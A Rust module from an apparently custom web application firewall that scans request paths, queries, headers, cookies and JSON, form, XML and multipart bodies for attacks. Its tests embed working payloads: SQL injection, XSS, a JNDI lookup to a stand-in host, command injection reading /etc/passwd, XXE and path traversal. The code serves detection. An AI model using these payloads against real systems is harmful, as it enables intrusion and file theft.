//! Inspect, negative model: every value a client controls — path segments, query keys and values, selected
//! headers, cookies, and the string leaves and keys of JSON and form bodies — goes through the detection engine
//! (`crates/detect`) with its place and name, so a JSON number field is not read as SQL and a search box may
//! hold prose. Bodies are buffered only on routes where inspection is on, only for the content types it
//! understands, and only up to a cap.

use crate::pipeline::{Code, Verdict};
use bytes::Bytes;
use detect::{form_decode, Context, Detector, Place};
use http::header::{HeaderName, CONTENT_TYPE, COOKIE};
use http::request::Parts;
use std::collections::HashSet;
use std::sync::Arc;

mod json;

/// Where in the request a value sat, as exclusions name it (`query:q`, `json:bio`, `header:referer`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Field {
    Path,
    Query,
    Header,
    Cookie,
    Json,
    Form,
    Body,
}

impl Field {
    pub fn parse(s: &str) -> Option<Field> {
        Some(match s {
            "path" => Field::Path,
            "query" => Field::Query,
            "header" => Field::Header,
            "cookie" => Field::Cookie,
            "json" => Field::Json,
            "form" => Field::Form,
            "body" => Field::Body,
            _ => return None,
        })
    }

    fn as_str(self) -> &'static str {
        match self {
            Field::Path => "path",
            Field::Query => "query",
            Field::Header => "header",
            Field::Cookie => "cookie",
            Field::Json => "json",
            Field::Form => "form",
            Field::Body => "body",
        }
    }
}

/// How a body is read for inspection, from its `Content-Type`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BodyKind {
    Json,
    Form,
    Xml,
    /// `multipart/form-data` with its boundary: text fields and file names are scanned, file contents are not.
    Multipart(String),
    /// Not inspected (binary, unknown): streamed through untouched.
    Opaque,
}

impl BodyKind {
    pub fn of(parts: &Parts) -> BodyKind {
        let Some(ct) = parts.headers.get(CONTENT_TYPE).and_then(|v| v.to_str().ok()) else {
            return BodyKind::Opaque;
        };
        // Compared without case and without a lower-cased copy: this runs on every request.
        let mime = ct.split(';').next().unwrap_or("").trim();
        let is = |name: &str| mime.eq_ignore_ascii_case(name);
        let suffix = |s: &str| {
            mime.len() >= s.len() && mime.as_bytes()[mime.len() - s.len()..].eq_ignore_ascii_case(s.as_bytes())
        };
        if is("application/json") || suffix("+json") {
            BodyKind::Json
        } else if is("application/x-www-form-urlencoded") {
            BodyKind::Form
        } else if is("application/xml") || is("text/xml") || suffix("+xml") {
            BodyKind::Xml
        } else if is("multipart/form-data") {
            // Without a usable boundary the body cannot be read the way the application will read it, so it is
            // refused later rather than let through uninspected.
            BodyKind::Multipart(crate::multipart::boundary(ct))
        } else {
            BodyKind::Opaque
        }
    }
}

/// A route's compiled inspection policy.
#[derive(Debug)]
pub struct InspectPolicy {
    pub detector: Detector,
    /// Headers whose values are scanned (lower-case names); `cookie` is split into name/value pairs.
    pub headers: Vec<HeaderName>,
    /// Fields never scanned, e.g. a free-text field that legitimately holds code.
    pub exclude: HashSet<(Field, String)>,
    /// Largest body buffered for inspection; a bigger JSON, form or XML body is refused (413).
    pub max_body_bytes: u64,
    pub json: JsonLimits,
}

/// Hostile-JSON limits: a body past any of them is refused before it can hurt the upstream's parser.
#[derive(Debug, Clone, Copy)]
pub struct JsonLimits {
    pub max_depth: usize,
    pub max_string_bytes: usize,
    pub max_array_items: usize,
    pub max_object_keys: usize,
}

impl Default for JsonLimits {
    fn default() -> Self {
        JsonLimits { max_depth: 32, max_string_bytes: 256 * 1024, max_array_items: 10_000, max_object_keys: 1_000 }
    }
}

fn finding_verdict(f: detect::Finding, field: Field, name: &str) -> Verdict {
    let name: String = name.chars().take(64).collect();
    Verdict::reject(Code::Inspect(f.family), format!("{} `{}`: {}", field.as_str(), name, f.evidence))
}

impl InspectPolicy {
    /// Callers test `exclude.is_empty()` first, inline: most policies exclude nothing.
    fn excluded(&self, field: Field, name: &str) -> bool {
        self.exclude.contains(&(field, name.to_string()))
    }

    #[inline]
    fn scan(&self, value: &[u8], place: Place, field: Field, name: &str) -> Option<Verdict> {
        if value.is_empty() || (!self.exclude.is_empty() && self.excluded(field, name)) {
            return None;
        }
        let ctx = if name.is_empty() { Context::new(place) } else { Context::with_key(place, name) };
        self.detector.scan(value, ctx).map(|f| finding_verdict(f, field, name))
    }

    /// Scans `a=b&c=d` pairs (query strings and form bodies).
    fn scan_pairs(&self, raw: &[u8], key_place: Place, value_place: Place, field: Field) -> Option<Verdict> {
        for pair in raw.split(|&b| b == b'&') {
            if pair.is_empty() {
                continue;
            }
            let (k, v) = match pair.iter().position(|&b| b == b'=') {
                Some(i) => (&pair[..i], &pair[i + 1..]),
                None => (pair, &pair[..0]),
            };
            let key = form_value(k);
            let key_text = String::from_utf8_lossy(&key);
            if let Some(v) = self.scan(&key, key_place, field, "") {
                return Some(v);
            }
            if let Some(v) = self.scan(&form_value(v), value_place, field, &key_text) {
                return Some(v);
            }
        }
        None
    }

    /// Everything but the body: path segments, query, selected headers, cookies.
    pub fn scan_head(&self, parts: &Parts, path: &str) -> Verdict {
        for seg in path.split('/') {
            if let Some(v) = self.scan(seg.as_bytes(), Place::Path, Field::Path, "") {
                return v;
            }
        }
        if let Some(q) = parts.uri.query() {
            if let Some(v) = self.scan_pairs(q.as_bytes(), Place::QueryKey, Place::Query, Field::Query) {
                return v;
            }
        }
        for name in &self.headers {
            for value in parts.headers.get_all(name) {
                if *name == COOKIE {
                    for c in value.as_bytes().split(|&b| b == b';') {
                        let c = c.trim_ascii();
                        let (k, v) = match c.iter().position(|&b| b == b'=') {
                            Some(i) => (&c[..i], &c[i + 1..]),
                            None => (&c[..0], c),
                        };
                        let k = String::from_utf8_lossy(k);
                        if let Some(v) = self.scan(v, Place::Cookie, Field::Cookie, &k) {
                            return v;
                        }
                    }
                } else if let Some(v) = self.scan(value.as_bytes(), Place::Header, Field::Header, name.as_str()) {
                    return v;
                }
            }
        }
        Verdict::Continue
    }

    /// The buffered body, read according to its kind.
    pub fn scan_body(&self, kind: BodyKind, body: &Bytes) -> Verdict {
        match kind {
            BodyKind::Opaque => Verdict::Continue,
            BodyKind::Form => self.scan_pairs(body, Place::Form, Place::Form, Field::Form).unwrap_or(Verdict::Continue),
            BodyKind::Xml => self.scan(body, Place::Body, Field::Body, "").unwrap_or(Verdict::Continue),
            BodyKind::Json => self.scan_json(body),
            BodyKind::Multipart(boundary) => self.scan_multipart(body, boundary.as_bytes()),
        }
    }

    /// Reads `multipart/form-data` (RFC 7578, through the one shared reader): each part's name and file name are
    /// scanned, text fields (parts without a file name, or with a textual content type) are scanned as form
    /// values.
    fn scan_multipart(&self, body: &[u8], boundary: &[u8]) -> Verdict {
        let parts = match crate::multipart::parse(body, boundary, crate::multipart::Limits::default()) {
            Ok(parts) => parts,
            Err(e) => return Verdict::reject(Code::InspectMalformedBody, format!("multipart body: {e}")),
        };
        for part in parts {
            let textual = part.content_type.as_deref().is_none_or(|t| {
                t.starts_with("text/") || t.contains("json") || t.contains("xml") || t.contains("x-www-form-urlencoded")
            });
            if let Some(v) = self.scan(part.name.as_bytes(), Place::QueryKey, Field::Form, "") {
                return v;
            }
            if let Some(f) = &part.filename {
                if let Some(v) = self.scan(f.as_bytes(), Place::Form, Field::Form, "filename") {
                    return v;
                }
            }
            if part.filename.is_none() || textual {
                if let Some(v) = self.scan(part.content, Place::Form, Field::Form, &part.name) {
                    return v;
                }
            }
        }
        Verdict::Continue
    }

    /// The detection half of [`Self::scan_json`] over a body the OpenAPI validator has already parsed (under the
    /// same limits, duplicate keys refused): the same keys and strings, with the same member names, go through
    /// the detector, and the body is not parsed a second time.
    pub fn scan_json_tree(&self, value: &serde_json::Value) -> Verdict {
        self.walk_tree(value, "", &mut json::CleanKeys::new()).unwrap_or(Verdict::Continue)
    }

    /// `clean`: keys already passed in this body.
    fn walk_tree<'v>(
        &self,
        value: &'v serde_json::Value,
        key: &str,
        clean: &mut json::CleanKeys<'v>,
    ) -> Option<Verdict> {
        use serde_json::Value;
        match value {
            Value::String(s) => self.scan(s.as_bytes(), Place::JsonString, Field::Json, key),
            Value::Array(items) => items.iter().find_map(|v| self.walk_tree(v, key, clean)),
            Value::Object(members) => {
                for (k, v) in members {
                    if let Some(verdict) = clean.scan(self, k, json::fingerprint(k.as_bytes()), Some(k)) {
                        return Some(verdict);
                    }
                    if let Some(verdict) = self.walk_tree(v, k, clean) {
                        return Some(verdict);
                    }
                }
                None
            }
            Value::Null | Value::Bool(_) | Value::Number(_) => None,
        }
    }

    /// One pass over the JSON tokens (no tree is built): limits, duplicate keys and every string and key
    /// through the detector (see the `json` module). Trailing bytes after the value are refused too.
    fn scan_json(&self, body: &[u8]) -> Verdict {
        if body.iter().all(u8::is_ascii_whitespace) {
            return Verdict::Continue;
        }
        json::scan(self, body)
    }
}

/// A route's inspection: off, or a shared compiled policy.
pub type Inspection = Option<Arc<InspectPolicy>>;

/// A form or query component decoded; most have nothing to decode and are borrowed as they are.
fn form_value(raw: &[u8]) -> std::borrow::Cow<'_, [u8]> {
    if raw.iter().any(|&b| b == b'%' || b == b'+') {
        std::borrow::Cow::Owned(form_decode(raw))
    } else {
        std::borrow::Cow::Borrowed(raw)
    }
}

#[cfg(test)]
mod tests {
    use super::json::SMALL_OBJECT;
    use super::*;

    fn policy() -> InspectPolicy {
        InspectPolicy {
            detector: Detector::new(detect::Level::L1),
            headers: vec![http::header::USER_AGENT, COOKIE],
            exclude: [(Field::Query, "snippet".to_string())].into_iter().collect(),
            max_body_bytes: 1 << 20,
            json: JsonLimits::default(),
        }
    }

    fn parts(uri: &str, headers: &[(&str, &str)]) -> Parts {
        let mut b = http::Request::get(uri);
        for (k, v) in headers {
            b = b.header(*k, *v);
        }
        b.body(()).unwrap().into_parts().0
    }

    fn code(v: Verdict) -> Option<&'static str> {
        match v {
            Verdict::Continue => None,
            Verdict::Reject(r) => Some(r.code.as_str()),
        }
    }

    #[test]
    fn query_values_are_decoded_once_and_scanned_with_their_name() {
        let p = policy();
        assert_eq!(code(p.scan_head(&parts("/s?id=1%27%20OR%20%271%27%3D%271", &[]), "/s")), Some("inspect.sqli"));
        assert_eq!(code(p.scan_head(&parts("/s?q=union+was+a+great+select", &[]), "/s")), None);
        assert_eq!(code(p.scan_head(&parts("/s?name=Se%C3%A1n+O%27Brien", &[]), "/s")), None);
        // An excluded field may hold anything.
        assert_eq!(code(p.scan_head(&parts("/s?snippet=%3Cscript%3Ealert(1)%3C/script%3E", &[]), "/s")), None);
        assert_eq!(
            code(p.scan_head(&parts("/s?other=%3Cscript%3Ealert(1)%3C/script%3E", &[]), "/s")),
            Some("inspect.xss")
        );
        assert_eq!(code(p.scan_head(&parts("/s?a[$ne]=1", &[]), "/s")), Some("inspect.nosqli"));
    }

    #[test]
    fn headers_and_cookies() {
        let p = policy();
        let v = p.scan_head(&parts("/", &[("user-agent", "${jndi:ldap://x.example/a}")]), "/");
        assert_eq!(code(v), Some("inspect.jndi"));
        let v = p.scan_head(&parts("/", &[("cookie", "theme=dark; sid=1' or '1'='1")]), "/");
        assert_eq!(code(v), Some("inspect.sqli"));
        let v =
            p.scan_head(&parts("/", &[("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("cookie", "a=b; c=d")]), "/");
        assert_eq!(code(v), None);
    }

    #[test]
    fn json_strings_and_keys_but_not_numbers() {
        let p = policy();
        let body = |s: &str| Bytes::from(s.to_string());
        assert_eq!(
            code(p.scan_body(BodyKind::Json, &body(r#"{"name":"D'Angelo","age":42,"tags":["drop","union"]}"#))),
            None
        );
        assert_eq!(
            code(p.scan_body(BodyKind::Json, &body(r#"{"bio":"<img src=x onerror=alert(1)>"}"#))),
            Some("inspect.xss")
        );
        assert_eq!(
            code(p.scan_body(BodyKind::Json, &body(r#"{"user":{"$where":"sleep(5000)"}}"#))),
            Some("inspect.nosqli")
        );
        assert_eq!(
            code(p.scan_body(BodyKind::Json, &body(r#"{"__proto__":{"admin":true}}"#))),
            Some("inspect.proto_pollution")
        );
        assert_eq!(code(p.scan_body(BodyKind::Json, &body("{not json"))), Some("inspect.malformed_body"));
        let deep = format!("{}1{}", "[".repeat(40), "]".repeat(40));
        assert_eq!(code(p.scan_body(BodyKind::Json, &body(&deep))), Some("inspect.malformed_body"));
        let shallow = format!("{}1{}", "[".repeat(20), "]".repeat(20));
        assert_eq!(code(p.scan_body(BodyKind::Json, &body(&shallow))), None);
    }

    /// The tree walk (a body the OpenAPI validator parsed) must reach the same verdict as the token walk, on
    /// every libinjection line and our benign API values, placed as a member, an array item and a key.
    #[test]
    fn the_tree_walk_finds_what_the_token_walk_finds() {
        let p = policy();
        let corpus = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../detect/corpus");
        let mut files: Vec<_> =
            std::fs::read_dir(corpus.join("libinjection")).unwrap().flatten().map(|e| e.path()).collect();
        files.push(corpus.join("benign-api.txt"));
        let (mut values, mut flagged) = (0, 0);
        for f in files {
            let text = String::from_utf8_lossy(&std::fs::read(&f).unwrap()).into_owned();
            for line in text.lines().filter(|l| !l.trim().is_empty() && !l.starts_with('#')) {
                let v = String::from_utf8_lossy(&form_decode(line.as_bytes())).into_owned();
                let body =
                    serde_json::json!({ "comment": v, "n": 1, "tags": ["ok", v], "nested": { v.clone(): true } });
                let bytes = Bytes::from(body.to_string());
                let tree: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
                let (token, walked) = (code(p.scan_body(BodyKind::Json, &bytes)), code(p.scan_json_tree(&tree)));
                assert_eq!(token.is_some(), walked.is_some(), "{f:?}: {line}");
                values += 1;
                flagged += usize::from(walked.is_some());
            }
        }
        assert!(values > 10_000 && flagged > 9_000, "{values} values, {flagged} flagged");
    }

    #[test]
    fn hostile_json_is_refused() {
        let p = policy();
        let body = |s: &str| Bytes::from(s.to_string());
        let malformed = |s: &str| code(p.scan_body(BodyKind::Json, &body(s)));
        assert_eq!(malformed(r#"{"role":"user","role":"admin"}"#), Some("inspect.malformed_body"));
        assert_eq!(malformed(r#"{"n": 1e999}"#), Some("inspect.malformed_body"));
        assert_eq!(malformed(r#"{"a":1} {"b":2}"#), Some("inspect.malformed_body"));
        assert_eq!(malformed(&format!("[{}1]", "1,".repeat(10_000))), Some("inspect.malformed_body"));
        let many_keys: Vec<String> = (0..1001).map(|i| format!("\"k{i}\":1")).collect();
        assert_eq!(malformed(&format!("{{{}}}", many_keys.join(","))), Some("inspect.malformed_body"));
        assert_eq!(malformed(&format!("{{\"s\":\"{}\"}}", "a".repeat(300 * 1024))), Some("inspect.malformed_body"));
        // Within the limits: fine, and the detector still sees strings nested in arrays under their member name.
        assert_eq!(malformed(&format!("[{}1]", "1,".repeat(100))), None);
        assert_eq!(malformed(r#"{"items":[{"note":"fine"},{"note":"' OR '1'='1' --"}]}"#), Some("inspect.sqli"));
    }

    /// Duplicate keys are found per object whatever its size (small objects compare in place, big ones hash),
    /// the same names in sibling or nested objects are not duplicates, and an escaped spelling of a key is the
    /// same key. Keys remembered as clean do not hide a later hostile one.
    #[test]
    fn duplicate_keys_per_object() {
        let p = policy();
        let scan = |s: &str| code(p.scan_body(BodyKind::Json, &Bytes::from(s.to_string())));
        assert_eq!(scan(r#"{"items":[{"a":1,"b":"x"},{"a":2,"b":"y"}],"a":{"a":{"a":3}},"b":0}"#), None);
        assert_eq!(scan(r#"{"a":1,"\u0061":2}"#), Some("inspect.malformed_body"));
        assert_eq!(scan(r#"{"o":{"a":1,"b":2},"p":{"b":1,"b":2}}"#), Some("inspect.malformed_body"));
        for n in [SMALL_OBJECT - 1, SMALL_OBJECT, SMALL_OBJECT + 1, 3 * SMALL_OBJECT] {
            let keys: Vec<String> = (0..n).map(|i| format!("\"k{i}\":1")).collect();
            let distinct = format!("{{{}}}", keys.join(","));
            assert_eq!(scan(&distinct), None, "{n} keys");
            for dup in [0, n / 2, n - 1] {
                let body = format!("{{{},\"k{dup}\":2}}", keys.join(","));
                assert_eq!(scan(&body), Some("inspect.malformed_body"), "{n} keys, k{dup} twice");
            }
            // Siblings with the same big key set are fine.
            assert_eq!(scan(&format!("[{distinct},{distinct}]")), None);
        }
        assert_eq!(scan(r#"[{"x":1,"y":"a"},{"x":2,"y":"b","$where":"sleep(1)"}]"#), Some("inspect.nosqli"));
    }

    #[test]
    fn multipart_fields_and_file_names_are_scanned_file_contents_are_not() {
        let p = policy();
        let mp = |parts: &[(&str, Option<&str>, Option<&str>, &str)]| {
            let mut b = String::new();
            for (name, filename, ctype, content) in parts {
                b.push_str("--XyZ\r\nContent-Disposition: form-data; name=\"");
                b.push_str(name);
                b.push('"');
                if let Some(f) = filename {
                    b.push_str(&format!("; filename=\"{f}\""));
                }
                b.push_str("\r\n");
                if let Some(t) = ctype {
                    b.push_str(&format!("Content-Type: {t}\r\n"));
                }
                b.push_str("\r\n");
                b.push_str(content);
                b.push_str("\r\n");
            }
            b.push_str("--XyZ--\r\n");
            Bytes::from(b)
        };
        let kind = BodyKind::Multipart("XyZ".into());
        let ok = mp(&[
            ("title", None, None, "Rock & roll, or not?"),
            ("doc", Some("a.bin"), Some("application/octet-stream"), "' OR 1=1 --"),
        ]);
        assert_eq!(code(p.scan_body(kind.clone(), &ok)), None);
        let sqli = mp(&[("title", None, None, "1' UNION SELECT password FROM users--")]);
        assert_eq!(code(p.scan_body(kind.clone(), &sqli)), Some("inspect.sqli"));
        let trav = mp(&[("doc", Some("../../../etc/passwd"), Some("text/plain"), "x")]);
        assert_eq!(code(p.scan_body(kind.clone(), &trav)), Some("inspect.path_traversal"));
        let text_file = mp(&[("doc", Some("a.txt"), Some("text/plain"), "<script>alert(1)</script>")]);
        assert_eq!(code(p.scan_body(kind.clone(), &text_file)), Some("inspect.xss"));
        assert_eq!(code(p.scan_body(BodyKind::Multipart(String::new()), &ok)), Some("inspect.malformed_body"));
        assert_eq!(code(p.scan_body(kind, &Bytes::from_static(b"--XyZ\r\nno end"))), Some("inspect.malformed_body"));
    }

    #[test]
    fn forms_and_xml() {
        let p = policy();
        let v = p.scan_body(BodyKind::Form, &Bytes::from_static(b"host=example.com%3B+cat+%2Fetc%2Fpasswd"));
        assert_eq!(code(v), Some("inspect.cmdi"));
        let xxe = Bytes::from_static(
            b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
        );
        assert_eq!(code(p.scan_body(BodyKind::Xml, &xxe)), Some("inspect.xxe"));
    }
}
